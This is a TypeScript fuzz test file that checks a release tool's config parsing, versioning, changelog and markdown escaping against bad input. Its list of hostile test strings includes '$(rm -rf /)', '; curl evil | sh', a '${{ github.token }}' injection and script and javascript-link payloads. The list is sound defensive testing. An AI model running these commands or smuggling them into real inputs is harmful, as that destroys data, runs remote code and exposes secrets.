import fc from 'fast-check';
import { stringify } from 'yaml';
import { describe, expect, it } from 'vitest';
import { parseConfigText } from '../../src/config/load.js';
import { ConfigError } from '../../src/errors.js';
import { serverJsonProblems } from '../../src/mcp-registry/client.js';
import { checkExactVersion, decideFromLabels, DEFAULT_LABELS, nextVersion } from '../../src/release/bump.js';
import { DEFAULT_CATEGORIES, insertSection, renderNotes, renderSection } from '../../src/release/changelog.js';
import { parseCommitMessage } from '../../src/release/conventional.js';
import { planMarkdown } from '../../src/release/plan-markdown.js';
import { diffSurfaces } from '../../src/surface/diff.js';
import { buildSurface } from '../../src/surface/surface.js';
import { escapeMarkdownInline } from '../../src/util/markdown.js';

/**
 * Generated bad input (fast-check) for the pure parts every command trusts:
 * each case ends in a clear, typed error or a correct result, never a crash.
 * Hostile strings: shell metacharacters, `${{ }}`, markdown/HTML injection,
 * lone surrogates, long strings, deep nesting.
 */
const hostile = fc.oneof(
  fc.string(),
  fc.string({ unit: 'grapheme', maxLength: 200 }),
  fc.constantFrom(
    '$(rm -rf /)',
    '`id`',
    '; curl evil | sh',
    '${{ github.token }}',
    '<script>alert(1)</script>',
    '[x](javascript:alert(1))',
    '@org/team',
    '| a | b |',
    '\u0000',
    '\ud800',
    '\r\n## [9.9.9]\n',
    'x'.repeat(100_000),
  ),
);

/** YAML nested `depth` levels deep, written directly (a serializer would overflow first). */
function deepYaml(depth: number): string {
  return `rules: ${'{a: ['.repeat(depth)}x${']}'.repeat(depth)}\n`;
}

describe('generated input: never a crash, always a clear answer', () => {
  it('config files: valid or a ConfigError naming the file', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          hostile,
          fc.jsonValue().map((v) => stringify(v)),
          fc.dictionary(fc.string(), fc.jsonValue()).map((v) => stringify(v)),
        ),
        (text) => {
          try {
            parseConfigText(text, '.github/mcp-release.yml');
          } catch (error) {
            expect(error).toBeInstanceOf(ConfigError);
            expect((error as Error).message.startsWith('.github/mcp-release.yml')).toBe(true);
            expect((error as Error).message).not.toContain('\n    at ');
          }
        },
      ),
      { numRuns: 300 },
    );
    for (const depth of [50, 500, 5000]) expect(() => parseConfigText(deepYaml(depth), 'c.yml')).toThrow(ConfigError);
  });

  it('labels: a decision for any label list, conflicts name only release labels', () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(hostile, fc.constantFrom(...Object.values(DEFAULT_LABELS)))), (labels) => {
        const decision = decideFromLabels(labels, DEFAULT_LABELS);
        if (decision.kind === 'conflict')
          for (const l of decision.labels) expect(Object.values(DEFAULT_LABELS)).toContain(l.toLowerCase());
      }),
    );
  });

  it('versions: an exact version is accepted only when valid and new; next versions are always greater', () => {
    fc.assert(
      fc.property(hostile, (version) => {
        const problem = checkExactVersion(version, '1.2.3', ['1.3.0']);
        if (problem === undefined) expect(version).toMatch(/^\d+\.\d+\.\d+/);
      }),
    );
    fc.assert(
      fc.property(
        fc.tuple(fc.nat(50), fc.nat(50), fc.nat(50)),
        fc.constantFrom('major', 'minor', 'patch', 'prerelease') as fc.Arbitrary<'major'>,
        fc.array(fc.tuple(fc.nat(50), fc.nat(50), fc.nat(60)).map(([a, b, c]) => `${a}.${b}.${c}`)),
        ([a, b, c], bump, published) => {
          const next = nextVersion({ current: `${a}.${b}.${c}`, bump, preid: 'beta', published });
          expect(published).not.toContain(next);
        },
      ),
    );
    expect(() => nextVersion({ current: 'not-a-version', bump: 'patch', preid: 'beta', published: [] })).toThrow(
      /not a semver version/,
    );
  });

  it('PR titles and commit messages: escaped in notes and comments, one line each, no live HTML or mentions', () => {
    fc.assert(
      fc.property(hostile, hostile, (title, body) => {
        const parsed = parseCommitMessage(`${title}\n\n${body}`);
        const notes = renderNotes({
          entries: [{ title: parsed.subject, labels: [], breaking: parsed.breaking, pr: 1, author: title }],
          categories: DEFAULT_CATEGORIES,
        });
        expect(notes).not.toMatch(/<script/i);
        expect(notes.split('\n').filter((l) => l.startsWith('- '))).toHaveLength(1);
        const escaped = escapeMarkdownInline(title);
        expect(escaped).not.toMatch(/(^|[^\\])@\w/);
        expect(escaped).not.toContain('\n');
        const comment = planMarkdown({
          name: title,
          current: '1.0.0',
          next: '1.1.0',
          stagingTag: 'next',
          finalTag: 'latest',
          gitTag: 'v1.1.0',
          notes,
        });
        // Text inside a code span is shown literally; outside one, no tag may survive.
        expect(comment.replace(/`[^`\n]*`/g, '')).not.toMatch(/<script/i);
      }),
      { numRuns: 200 },
    );
  });

  it('changelogs: any existing text keeps one section per version', () => {
    fc.assert(
      fc.property(hostile, (existing) => {
        const section = renderSection({
          version: '2.0.0',
          date: '2026-11-22',
          entries: [],
          categories: DEFAULT_CATEGORIES,
        });
        const once = insertSection(existing, '2.0.0', section);
        const twice = insertSection(once, '2.0.0', section);
        expect(twice).toBe(once);
        expect(once.match(/^## \[2\.0\.0\]/gm)).toHaveLength(1);
      }),
      { numRuns: 200 },
    );
  });

  it('server.json and surfaces from arbitrary JSON: problems listed, never a throw', () => {
    fc.assert(
      fc.property(fc.dictionary(fc.string(), fc.jsonValue()), (doc) => {
        expect(Array.isArray(serverJsonProblems(doc, 'pkg', '1.0.0'))).toBe(true);
      }),
      { numRuns: 200 },
    );
    fc.assert(
      fc.property(
        fc.array(fc.dictionary(fc.string(), fc.jsonValue()), { maxLength: 5 }),
        fc.array(fc.dictionary(fc.string(), fc.jsonValue()), { maxLength: 5 }),
        (a, b) => {
          const surface = (tools: Record<string, unknown>[]) =>
            buildSurface({
              initialize: {},
              lists: { tools: { items: tools.map((t, i) => ({ name: `t${i}`, ...t })) } },
            });
          expect(Array.isArray(diffSurfaces(surface(a), surface(b)))).toBe(true);
        },
      ),
      { numRuns: 200 },
    );
  });
});
